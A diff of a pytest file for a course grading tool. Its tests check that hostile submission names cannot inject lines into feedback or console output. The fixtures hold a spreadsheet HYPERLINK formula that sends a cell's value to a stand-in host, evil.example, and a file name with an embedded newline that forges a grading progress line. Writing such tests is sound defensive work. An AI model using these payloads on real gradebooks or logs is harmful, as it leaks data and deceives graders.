@@ -17,8 +17,9 @@ from course.grading.safe_text import FORMULA_STARTS
 
 CORPUS = Path(__file__).parent / "corpus"
 LESSON = "01_logistic_regression_numpy"
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")'
-FAKE_LINE = f"[9/9] fake.ipynb  {LESSON}  11/11  (1.0 s)"
+FORMULA = '=HYPERLINK("evil.example?"&A1,"Click for your grade")'   # no "/": a folder name
+# A file name cannot hold "/": the fake progress line uses the division slash U+2215.
+FAKE_LINE = f"[9\u22159] fake.ipynb  {LESSON}  11\u221511  (1.0 s)"
 
 
 def read_rows(path: Path) -> list[dict]:
@@ -193,24 +194,25 @@ def test_no_output_name_collides_and_no_name_carries_a_control_character(graded_
     names = [r["report_name"] for r in reports]
     assert len(names) == len(set(n.casefold() for n in names)) == 6
     expected = {f"{n}{suffix}" for n in names for suffix in (".json", ".results.json")}
+    # results.json: Gradescope's file of a run that graded one notebook (Ada's regrade)
     assert {p.name for p in out.iterdir()} == expected | {"grades.csv", "canvas.csv",
-                                                         "moodle.csv"}
+                                                         "moodle.csv", "results.json"}
     assert {p.name for p in feedback.iterdir()} == {f"{n}{s}" for n in names
                                                     for s in (".md", ".html")}
     for path in [*out.iterdir(), *feedback.iterdir()]:
-        assert path.name.isprintable() and "\n" not in path.read_text(encoding="utf-8")[:0]
+        assert path.name.isprintable()
 
 
 def test_a_hostile_file_name_injects_no_line_in_the_feedback_or_the_console(graded_class,
                                                                             capsys):
     feedback = graded_class["feedback"]
     for path in feedback.glob("*.md"):
-        assert not any(line.startswith(("[9/9]", "**Score: 11")) for line in
+        assert not any(line.startswith((FAKE_LINE[:5], "**Score: 11")) for line in
                        path.read_text(encoding="utf-8").splitlines())
     course_main(["grade", str(graded_class["root"] / "submissions" / f"eve\n{FAKE_LINE}.ipynb"),
                  "--out", str(graded_class["root"] / "console")])
     printed = capsys.readouterr().out
-    assert FAKE_LINE not in printed.splitlines() and "eve\\x0a[9/9]" in printed
+    assert FAKE_LINE not in printed.splitlines() and "eve\\x0a" + FAKE_LINE in printed
 
 
 def test_the_gradebook_alone_is_rebuilt_with_an_override(graded_class, tmp_path):
